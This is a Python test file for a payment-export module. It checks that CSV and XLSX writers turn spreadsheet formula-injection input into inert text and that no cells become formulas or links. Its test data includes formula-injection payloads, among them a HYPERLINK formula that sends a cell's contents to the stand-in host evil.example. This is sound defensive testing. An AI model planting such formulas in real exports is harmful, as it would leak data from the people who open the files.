"""What a stranger wrote into a payment stays text in the finance person's spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from qrisd.exports.cells import inert, printable
from qrisd.exports.writers import BOM, csv_chunks, write_xlsx

DANGEROUS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("+62812", "'+62812"),
    ("-500", "'-500"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
    ("\ttab first", "'\ttab first"),
    ("  =1+1", "'  =1+1"),
    ("\x00=1+1", "\ufffd=1+1"),
    ("＝1+1", "'＝1+1"),
    ("a;=1+1;b", "a;'=1+1;b"),
    ("a|-b", "a|'-b"),
    ("first\n@second", "first\n'@second"),
]
HARMLESS = [
    "",
    "INV-1",
    "a=b",
    "000123456789",
    "  padded  ",
    "12345678901234567890",
    'say "hi", then; go',
    "kopi;teh",
    "two\nlines",
    "two\r\nlines",
    "'quoted",
    "Es kopi susu ☕ 𝔎opi",
    "1,5",
    "TRUE",
    "2026-01-15",
]


def read_csv(rows: list[list[str | int | None]], *, bom: bool = False) -> list[list[str]]:
    text = b"".join(csv_chunks(rows, bom=bom)).decode("utf-8-sig" if bom else "utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def read_xlsx(rows: list[list[str | int | None]], folder: Path) -> list[list[object]]:
    path = folder / "t.xlsx"
    with path.open("wb") as file:
        write_xlsx(rows, file, sheet="t", folder=str(folder))
    return [list(row) for row in CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()]


@pytest.mark.parametrize(("text", "written"), DANGEROUS)
def test_what_a_spreadsheet_would_calculate_is_text_in_csv(text: str, written: str) -> None:
    assert inert(text) == written
    assert read_csv([[text, "next"]]) == [[written, "next"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_unchanged_in_csv(text: str) -> None:
    assert read_csv([["first", text, "last"]]) == [["first", text, "last"]]


@pytest.mark.parametrize("text", [*(text for text, _ in DANGEROUS), *HARMLESS, "_x0041_"])
def test_text_is_unchanged_in_xlsx_and_no_formula(text: str, tmp_path: Path) -> None:
    assert read_xlsx([["first", text, "last"]], tmp_path) == [["first", printable(text), "last"]]


def test_no_cell_of_a_sheet_is_a_formula_or_a_link(tmp_path: Path) -> None:
    texts: list[str | int | None] = [*(text for text, _ in DANGEROUS), "http://evil.example/", "mailto:a@b.example"]
    read_xlsx([texts], tmp_path)
    with zipfile.ZipFile(tmp_path / "t.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet
        assert not any("rels" in name and "sheet" in name for name in book.namelist())


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    assert read_csv([[15_000, -500, 0, None]]) == [["15000", "-500", "0", ""]]
    assert read_xlsx([[15_000, -500, 9_999_999_999_999, None, "x"]], tmp_path) == [
        [15_000.0, -500.0, 9_999_999_999_999.0, "", "x"]
    ]


def test_csv_is_rfc_4180() -> None:
    assert b"".join(csv_chunks([["a", 'b"c', "d,e", "f\ng", None, 1]], bom=False)) == b'a,"b""c","d,e","f\ng",,1\r\n'


def test_the_byte_order_mark_is_there_when_it_is_asked_for() -> None:
    assert b"".join(csv_chunks([["é"]], bom=True)) == BOM + "é\r\n".encode()
    assert read_csv([["é"]], bom=True) == [["é"]]


def test_a_long_file_comes_in_pieces() -> None:
    pieces = list(csv_chunks(([number, "x" * 50] for number in range(10_000)), bom=False))
    assert len(pieces) > 5
    assert max(map(len, pieces)) < 100_000
    assert b"".join(pieces).count(b"\r\n") == 10_000
